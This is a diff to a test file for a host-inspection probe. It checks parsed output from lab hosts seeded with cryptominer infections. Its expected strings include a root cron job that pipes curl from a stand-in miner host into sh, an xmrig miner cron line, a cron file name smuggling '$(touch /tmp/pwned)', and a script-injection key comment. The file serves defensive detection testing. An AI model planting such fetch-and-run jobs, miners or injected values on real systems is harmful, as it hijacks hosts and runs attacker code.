@@ -10,6 +10,8 @@ const recorded = allSections.filter((s) => s.name !== 'integrity' && s.name !== 
 // Real probe output from lab hosts (test/fixtures/probe/record-lab.sh on `minesweep lab up`, 11 scenarios).
 const dir = path.join(path.dirname(fileURLToPath(import.meta.url)), '../../fixtures/probe');
 const facts = (scenario: string) => parseProbeOutput(readFileSync(path.join(dir, `${scenario}.out`)), { host: scenario, sections: recorded });
+// the lab's subnet at recording time (measure.txt: one line per host, its address second); the pool is .254
+const net = /^\S+ (\d+\.\d+\.\d+)\.\d+ /m.exec(readFileSync(path.join(dir, 'measure.txt'), 'utf8'))![1]!;
 const SCENARIOS = ['clean', 'clean-busy', 'redis', 'ddg', 'kinsing', 'outlaw', 'cleanfda', 'aliyunduns', 'skidmap', 'hostile', 'pivot'];
 
 describe.each(SCENARIOS)('lab host %s', (scenario) => {
@@ -38,7 +40,7 @@ describe('lab scenarios as the probe sees them', () => {
     expect(f.redis[0]!.listen).toContain('0.0.0.0:6380');
     expect(f.iptables.rules).toContain('-A INPUT -p tcp -m tcp --dport 6380 -j ACCEPT');
     expect(f.cron.find((c) => c.path === '/var/spool/cron/crontabs/root')?.content).toContain('*/5 19-23,0-7 * * * curl -fsSL http://pm.cpuminerpool.invalid:8080/api/report?pm=0798 | sh');
-    expect(f.etcHosts?.content).toContain('198.18.27.254 pm.cpuminerpool.invalid');
+    expect(f.etcHosts?.content).toContain(`${net}.254 pm.cpuminerpool.invalid`);
   });
 
   it('kinsing: ld.so.preload, bot.service ExecStart, kdevtmpfsi from /tmp', () => {
@@ -62,7 +64,7 @@ describe('lab scenarios as the probe sees them', () => {
   it('hostile: a cron file named with $(…), quotes and a newline comes back byte-exact, and key comments with markup', () => {
     const f = facts('hostile');
     const name = `/etc/cron.d/upd $(touch /tmp/pwned) 'q' "dq"\nnl`;
-    expect(f.cron.find((c) => c.path === name)?.content).toContain('*/10 * * * * root /dev/shm/.x/xmrig -o stratum+tcp://198.18.27.254:3333');
+    expect(f.cron.find((c) => c.path === name)?.content).toContain(`*/10 * * * * root /dev/shm/.x/xmrig -o stratum+tcp://${net}.254:3333`);
     expect(f.authorizedKeys.flatMap((a) => a.keys).some((k) => k.comment === `<script>alert(1)</script> "x'y"`)).toBe(true);
     expect(f.processes.find((p) => p.comm === 'xmrig')?.exe).toBe('/dev/shm/.x/xmrig');
   });
